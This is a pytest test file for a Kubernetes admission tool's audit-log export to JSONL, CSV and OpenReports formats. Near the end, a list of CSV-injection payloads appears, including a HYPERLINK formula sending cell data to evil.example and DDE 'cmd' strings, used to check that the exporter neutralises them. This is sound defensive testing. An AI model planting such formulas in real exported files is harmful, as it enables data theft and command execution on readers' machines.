"""Exports: JSONL as stored, CSV with stable columns, OpenReports Reports; merged, filtered."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from mpigate.audit import AuditLog, HmacSigner, record_from_decision
from mpigate.audit.export import CSV_COLUMNS, export_csv, openreports
from mpigate.audit.layout import list_segments
from mpigate.audit.reader import read_chains
from mpigate.cli import cli
from mpigate.policy.decision import AdmissionInput, Decision, UserInfo, Violation

from .conftest import HMAC_SECRET

BASE = dt.datetime(2026, 11, 22, 9, 0, tzinfo=dt.UTC)


def decision(
    name: str, namespace: str | None, team: str | None, violations: tuple[Violation, ...]
) -> Decision:
    denies = any(v.denies for v in violations)
    return Decision(
        allowed=not denies,
        operation="CREATE",
        kind="TrainJob" if namespace else "ClusterTrainingRuntime",
        namespace=namespace,
        name=name,
        team=team,
        revision="rev1",
        violations=violations,
        warnings=tuple(v.message for v in violations if v.mode == "warn"),
        message="denied" if denies else "",
    )


def request(d: Decision, user: str = "maria") -> AdmissionInput:
    return AdmissionInput(
        operation="CREATE",
        kind=d.kind,
        namespace=d.namespace,
        name=d.name,
        obj={"apiVersion": "trainer.kubeflow.org/v1alpha1", "kind": d.kind},
        user=UserInfo(user, ("g",)),
        uid=f"uid-{d.name}",
    )


QUOTA = Violation("MPG-Q001", "enforce", "spec.trainer", "over quota", controls=("SOC2-CC6.1",))
IMAGE = Violation("MPG-IMG-002", "warn", "spec.trainer.image", "tag not pinned", controls=("SOC2-CC8.1",))
WAIVED = Violation(
    "MPG-Q001", "enforce", "spec.trainer", "over quota", controls=("SOC2-CC6.1",), waived_by="exc-1"
)
AUDITED = Violation("MPG-IMG-002", "audit", "spec.trainer.image", "tag not pinned", controls=("SOC2-CC8.1",))


@pytest.fixture
def audit_dir(tmp_path: Path) -> Path:
    """Two chains (replicas) with interleaved times."""
    root = tmp_path / "audit"
    plan: dict[str, list[tuple[int, Decision]]] = {
        "replica-a": [
            (10, decision("llm-ft", "nlp-team", "nlp-team", (QUOTA,))),
            (30, decision("llm-ft", "nlp-team", "nlp-team", (IMAGE,))),  # fixed: now only a warning
            (50, decision("vit", "cv-team", "cv-team", ())),
        ],
        "replica-b": [
            (20, decision("bert", "nlp-team", "nlp-team", (WAIVED, AUDITED))),
            (40, decision("mpi-openmpi-gpu", None, None, ())),
        ],
    }
    for chain, items in plan.items():
        now = [BASE]
        with AuditLog.open(
            root, chain=chain, signer=HmacSigner(HMAC_SECRET), clock=lambda n=now: n[0]
        ) as log:
            for seconds, d in items:
                now[0] = BASE + dt.timedelta(seconds=seconds)
                log.append(record_from_decision(d, request(d), "mutate"))
                log.append(record_from_decision(d, request(d), "validate"))
            now[0] = BASE + dt.timedelta(seconds=90)
    return root


def test_jsonl_export_is_the_stored_lines_merged_by_time(audit_dir, hmac_key_file, tmp_path):
    out = tmp_path / "out.jsonl"
    result = CliRunner().invoke(
        cli,
        ["audit", "export", str(audit_dir), "--format", "jsonl", "--key", str(hmac_key_file), "-o", str(out)],
    )
    assert result.exit_code == 0, result.output
    lines = out.read_bytes().splitlines()
    stored = {line for seg in audit_dir.rglob("*.jsonl") for line in seg.read_bytes().splitlines()}
    assert set(lines) == stored
    times = [json.loads(x)["time"] for x in lines]
    assert times == sorted(times)
    names = [json.loads(x).get("object", {}).get("name") for x in lines if b'"stage":"validate"' in x]
    assert names == ["llm-ft", "bert", "llm-ft", "mpi-openmpi-gpu", "vit"]
    assert "exported" in result.output


def test_filters_by_time_and_team(audit_dir):
    runner = CliRunner()
    result = runner.invoke(
        cli,
        [
            "audit",
            "export",
            str(audit_dir),
            "--team",
            "nlp-team",
            "--from",
            "2026-11-22T09:00:15Z",
            "--to",
            "2026-11-22T09:00:40Z",
        ],
    )
    records = [json.loads(x) for x in result.stdout.splitlines()]
    assert [(r["object"]["name"], r["stage"]) for r in records] == [
        ("bert", "mutate"),
        ("bert", "validate"),
        ("llm-ft", "mutate"),
        ("llm-ft", "validate"),
    ]
    bad = runner.invoke(cli, ["audit", "export", str(audit_dir), "--from", "yesterday"])
    assert bad.exit_code == 2 and "RFC 3339" in bad.output


def test_csv_columns_and_values(audit_dir):
    buffer = io.StringIO()
    count = export_csv(read_chains([audit_dir]), buffer)
    rows = list(csv.DictReader(io.StringIO(buffer.getvalue())))
    assert count == len(rows)
    assert list(rows[0]) == list(CSV_COLUMNS)
    bert = next(r for r in rows if r["name"] == "bert" and r["stage"] == "validate")
    assert bert["rules"] == "MPG-IMG-002;MPG-Q001"
    assert bert["denied_by"] == ""  # waived and audit-only: nothing denied
    assert bert["controls"] == "SOC2-CC6.1;SOC2-CC8.1"
    assert bert["decision"] == "allowed" and bert["team"] == "nlp-team" and bert["user"] == "maria"
    assert bert["operation"] == "CREATE" and bert["dry_run"] == "false" and bert["chain"] == "replica-b"
    first = next(r for r in rows if r["name"] == "llm-ft" and r["stage"] == "validate")
    assert first["denied_by"] == "MPG-Q001" and first["decision"] == "denied"
    assert len(first["hash"]) == 64
    events = [r["event"] for r in rows if r["stage"] == "checkpoint"]
    assert events[0] == "genesis" and "shutdown" in events


def test_openreports(audit_dir):
    reports = openreports(read_chains([audit_dir]))
    by_name = {r["scope"]["name"]: r for r in reports}
    assert set(by_name) == {"llm-ft", "bert", "vit", "mpi-openmpi-gpu"}
    for report in reports:
        assert report["apiVersion"] == "openreports.io/v1alpha1" and report["source"] == "mpigate"
        for result in report["results"]:
            assert result["result"] in {"pass", "fail", "warn", "error", "skip"}
            assert all(isinstance(v, str) for v in result["properties"].values())  # map[string]string
    llm = by_name["llm-ft"]  # the latest validate decision wins: now only a warning
    assert llm["kind"] == "Report" and llm["metadata"]["namespace"] == "nlp-team"
    assert llm["metadata"]["name"] == "mpigate-trainjob-llm-ft"
    [warn] = llm["results"]
    assert (warn["policy"], warn["rule"], warn["result"]) == ("mpigate-image", "MPG-IMG-002", "warn")
    assert warn["properties"]["controls"] == "SOC2-CC8.1"
    assert llm["summary"] == {"pass": 0, "fail": 0, "warn": 1, "error": 0, "skip": 0}
    bert = by_name["bert"]
    assert [(r["rule"], r["result"]) for r in bert["results"]] == [
        ("MPG-Q001", "skip"),
        ("MPG-IMG-002", "fail"),
    ]
    assert bert["results"][0]["properties"]["waivedBy"] == "exc-1"
    assert bert["results"][1]["properties"]["mode"] == "audit"
    entries = {e.hash: e for e in read_chains([audit_dir])}
    evidence = entries[bert["results"][0]["properties"]["recordHash"]]
    assert evidence.record["object"]["name"] == "bert" and evidence.stage == "validate"
    assert bert["results"][0]["resources"] == [
        {
            "apiVersion": "trainer.kubeflow.org/v1alpha1",
            "kind": "TrainJob",
            "namespace": "nlp-team",
            "name": "bert",
        }
    ]
    assert bert["results"][0]["timestamp"] == {
        "seconds": int((BASE + dt.timedelta(seconds=20)).timestamp()),
        "nanos": 0,
    }
    runtime = by_name["mpi-openmpi-gpu"]
    assert runtime["kind"] == "ClusterReport" and "namespace" not in runtime["metadata"]
    assert runtime["results"][0]["result"] == "pass"


def test_openreports_cli_writes_yaml_stream(audit_dir, tmp_path):
    out = tmp_path / "reports.yaml"
    result = CliRunner().invoke(
        cli, ["audit", "export", str(audit_dir), "--format", "openreports", "-o", str(out)]
    )
    assert result.exit_code == 0, result.output
    docs = list(yaml.safe_load_all(out.read_text()))
    assert len(docs) == 4 and {d["kind"] for d in docs} == {"Report", "ClusterReport"}


def test_export_of_a_tampered_chain_exits_1(audit_dir, hmac_key_file):
    segment = list_segments(audit_dir / "replica-a")[0]
    data = segment.read_bytes().replace(b'"name":"vit"', b'"name":"vip"')
    segment.write_bytes(data)
    result = CliRunner().invoke(cli, ["audit", "export", str(audit_dir), "--key", str(hmac_key_file)])
    assert result.exit_code == 1
    assert "integrity edited: " in result.stderr and segment.name in result.stderr


def test_export_to_an_unwritable_path_is_a_usage_error(audit_dir, tmp_path):
    target = tmp_path / "missing-dir" / "out.csv"
    result = CliRunner().invoke(
        cli, ["audit", "export", str(audit_dir), "--format", "csv", "-o", str(target)]
    )
    assert result.exit_code == 2 and "cannot write" in result.output and not target.exists()


def test_output_file_and_format_must_agree(audit_dir, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)

    def export(*args):
        return CliRunner().invoke(cli, ["audit", "export", str(audit_dir), *args])

    word = export("-o", "json")  # -o means the format on other commands
    assert word.exit_code == 2 and "-o names the output file here, not the format" in word.output
    assert "or -o ./json to write a file named 'json'" in word.output
    clash = export("--format", "jsonl", "-o", "x.csv")
    assert clash.exit_code == 2 and "--format jsonl but -o x.csv names a csv file" in clash.output
    foreign = export("-o", "x.pdf")
    assert foreign.exit_code == 2 and "cannot write a .pdf file: the formats are jsonl, csv, openreports" in (
        foreign.output
    )
    assert sorted(p.name for p in tmp_path.iterdir()) == ["audit"]  # nothing written on refusal
    by_suffix = export("-o", "x.csv")
    assert by_suffix.exit_code == 0, by_suffix.output
    assert (tmp_path / "x.csv").read_text().startswith("time,")
    as_yaml = export("-o", "r.yaml")
    assert as_yaml.exit_code == 0 and (tmp_path / "r.yaml").read_text().startswith(
        "---\napiVersion: openreports"
    )
    named = export("-o", "./json")
    assert named.exit_code == 0 and (tmp_path / "json").read_text().startswith('{"')


# OWASP "CSV Injection": a cell starting with =, +, -, @, tab or carriage return is a formula to a
# spreadsheet. Every one of them, from the places a tenant controls (job names, user names, messages).
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip


def test_csv_export_defuses_every_formula(tmp_path, hmac_key_file):
    """Issue 18 item 7: `audit export --format csv` wrote TrainJob and user names raw."""
    root = tmp_path / "audit"
    with AuditLog.open(root, chain="c", signer=HmacSigner(HMAC_SECRET)) as log:
        for hostile in HOSTILE:
            d = dataclasses.replace(decision(hostile, "nlp-team", "nlp-team", (QUOTA,)), message=hostile)
            log.append(record_from_decision(d, request(d, user=hostile), "validate"))
    out = tmp_path / "export.csv"
    result = CliRunner().invoke(
        cli, ["audit", "export", str(root), "--key", str(hmac_key_file), "-o", str(out)]
    )
    assert result.exit_code == 0, result.output
    text = out.read_bytes().decode("utf-8")  # as written: a CR inside a cell stays a CR
    rows = [r for r in csv.DictReader(io.StringIO(text, newline="")) if r["stage"] == "validate"]
    assert [r["name"] for r in rows] == ["'" + h for h in HOSTILE]
    assert [r["user"] for r in rows] == ["'" + h for h in HOSTILE]
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    assert [r["message"] for r in rows] == ["'" + h for h in HOSTILE]
    assert all(r["seq"].isdigit() for r in rows)  # numbers stay numbers
